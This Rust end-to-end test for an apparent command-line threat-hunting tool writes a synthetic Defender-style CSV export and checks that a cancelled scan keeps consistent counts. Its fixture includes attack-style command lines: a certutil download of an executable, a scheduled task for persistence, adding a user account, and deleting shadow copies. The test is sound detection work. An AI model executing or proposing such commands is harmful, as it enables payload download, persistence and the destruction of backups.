//! Issue 10, item 3: a file cancelled while it is read keeps an account
//! that agrees with its rows. A generated 250 MB export is cancelled as
//! soon as its first rows show; then its summary line equals the core's
//! account of exactly the bytes the page says it read ("cancelled at byte N
//! of M"), its flagged and per-flag counts equal the rows in the table, and
//! the file is marked partial in the summary and in every exported row.

use std::io::Write;
use std::time::Duration;

use cmdhunt_core::matcher::CompiledRule;
use cmdhunt_core::rule::FLAGS;
use cmdhunt_core::scan::FileScan;
use cmdhunt_e2e::page::Page;
use cmdhunt_e2e::tmp::TempDir;
use cmdhunt_e2e::{ensure, ensure_eq, on_both_targets, Error};

/// Records in the generated export (about 250 MB).
const RECORDS: u64 = 1_000_000;

/// A Defender-shaped export of `records` records: one in 40 flagged, each
/// flag in turn.
pub(crate) fn write_export(path: &std::path::Path, records: u64) -> Result<(), Error> {
    let flagged = [
        "cmd.exe /c certutil -urlcache -f http://10.0.0.1/a a.exe",
        "cmd.exe /c schtasks /create /tn t /tr c:\\t.exe /sc daily",
        "cmd.exe /c net user /add svc P@ss",
        "cmd.exe /c vssadmin delete shadows /all /quiet",
        "cmd.exe /c dir c:\\temp",
    ];
    let mut out = std::io::BufWriter::new(std::fs::File::create(path)?);
    writeln!(
        out,
        "Timestamp,DeviceName,AccountName,ActionType,FileName,ProcessCommandLine,InitiatingProcessFileName,InitiatingProcessCommandLine,FolderPath"
    )?;
    for n in 0..records {
        let (secs, k) = (n * 3, (n / 40) as usize % flagged.len());
        let (command, parent) = if n % 40 == 0 {
            (
                flagged[k],
                if k == 4 {
                    "winword.exe"
                } else {
                    "explorer.exe"
                },
            )
        } else {
            ("cmd.exe /c ipconfig /all", "explorer.exe")
        };
        writeln!(
            out,
            "2024-05-{:02}T{:02}:{:02}:{:02}Z,ws-{:04},user{},ProcessCreated,cmd.exe,\"{command} #{n}\",{parent},\"{parent} /automation -Embedding\",C:\\Windows\\System32\\cmd.exe",
            1 + secs / 86_400 % 28,
            secs / 3600 % 24,
            secs / 60 % 60,
            secs % 60,
            n % 997,
            n % 31,
        )?;
    }
    out.flush()?;
    Ok(())
}

/// Click the file's Cancel button from inside the page as soon as the first
/// rows are shown (a WebDriver round trip would be too slow to catch it).
const CANCEL_ON_FIRST_ROWS_JS: &str = r#"
const done = arguments[arguments.length - 1];
const start = Date.now();
const tick = () => {
  const count = document.querySelector('[data-testid="flagged-count"]');
  const cancel = document.querySelector('[data-testid="cancel"]');
  if (count && Number(count.textContent) > 0 && cancel) { cancel.click(); return done('clicked'); }
  if (Date.now() - start > 60000) return done('no rows within 60 s');
  setTimeout(tick, 5);
};
tick();
"#;

async fn a_cancelled_file_counts_its_rows(page: &Page) -> Result<(), Error> {
    let dir = TempDir::new("cancel")?;
    let path = dir.path().join("big-export.csv");
    write_export(&path, RECORDS)?;
    page.choose_window("all").await?;
    page.pick(std::slice::from_ref(&path)).await?;
    let clicked = page
        .browser
        .client
        .execute_async(CANCEL_ON_FIRST_ROWS_JS, vec![])
        .await?;
    ensure_eq!(
        clicked.as_str(),
        Some("clicked"),
        "cancel on the first rows"
    );
    check_cancelled(page, &path).await.map(|_| ())
}

/// The only file on the page, `path`, was cancelled: its status says
/// "cancelled at byte N of M"; its rows, summary line, chips and exported
/// rows are the core's account of exactly its first N bytes. Returns N.
pub(crate) async fn check_cancelled(page: &Page, path: &std::path::Path) -> Result<u64, Error> {
    let size = std::fs::metadata(path)?.len();
    let name = path
        .file_name()
        .and_then(|n| n.to_str())
        .ok_or("a file name")?;
    let status = page
        .until(
            "the file to be cancelled",
            Duration::from_secs(30),
            || async {
                let s = page.file_statuses().await?;
                Ok(s.first()
                    .map(|(_, t)| t.clone())
                    .filter(|t| !t.starts_with("reading") && !t.starts_with("queued")))
            },
        )
        .await?;
    let prefix = "cancelled at byte ";
    let (at, of) = status
        .strip_prefix(prefix)
        .and_then(|rest| rest.split_once(" of "))
        .ok_or_else(|| format!("the status says where it stopped: {status:?}"))?;
    let (at, of): (u64, u64) = (at.parse()?, of.parse()?);
    ensure_eq!(of, size, "the file's size in the status");
    ensure!(
        at > 0 && at < size,
        "cancelled part way: byte {at} of {size}"
    );

    // The core's account of exactly those bytes.
    let bytes = std::fs::read(path)?;
    let rule = CompiledRule::new();
    let mut scan = FileScan::new(&rule, 0, name, None);
    scan.push(&bytes[..at as usize]);
    let want = scan.summary().clone();
    let rows = page.settled_count().await?;
    ensure!(rows > 0, "the rows read before the cancel are kept");
    ensure_eq!(
        rows as u64,
        want.flagged,
        "rows shown = the core's flagged in {at} bytes"
    );

    let summary = page.summary_rows().await?;
    let (_, cells) = summary.first().ok_or("no summary line")?;
    let mut expected = vec![
        "csv".to_string(),
        want.records.to_string(),
        want.process_creations.to_string(),
        want.shell.to_string(),
        want.flagged.to_string(),
    ];
    expected.extend(want.flag_counts.iter().map(u64::to_string));
    expected.extend([want.skipped.to_string(), want.flagged.to_string()]);
    ensure_eq!(cells, &expected, "the summary line of the cancelled file");
    for (i, flag) in FLAGS.iter().enumerate() {
        page.toggle_chip(flag.name, true).await?;
        ensure_eq!(
            page.settled_count().await? as u64,
            want.flag_counts[i],
            "rows with {}",
            flag.name
        );
        page.toggle_chip(flag.name, false).await?;
    }
    let partial = page.texts("summary-partial").await?.concat();
    ensure!(
        partial.contains(&format!("cancelled at byte {at} of {size}"))
            && partial.contains("includes cancelled files"),
        "the summary marks the file and the total partial: {partial:?}"
    );

    // Every exported row says it comes from a partial file.
    page.click("export-csv").await?;
    let csv_path = page
        .browser
        .wait_for_download("cmdhunt-results.csv", Duration::from_secs(30))
        .await?;
    let csv = std::fs::read_to_string(&csv_path)?;
    let lines: Vec<&str> = csv.lines().skip(1).collect();
    ensure_eq!(lines.len(), rows, "exported rows");
    let mark = format!("{name} (partial: cancelled at byte {at} of {size})");
    ensure!(
        lines.iter().all(|l| l.contains(&mark)),
        "every exported row names the file as partial ({mark}): {:?}",
        lines.first()
    );
    std::fs::remove_file(&csv_path)?;
    Ok(at)
}

on_both_targets!(a_cancelled_file_counts_its_rows);
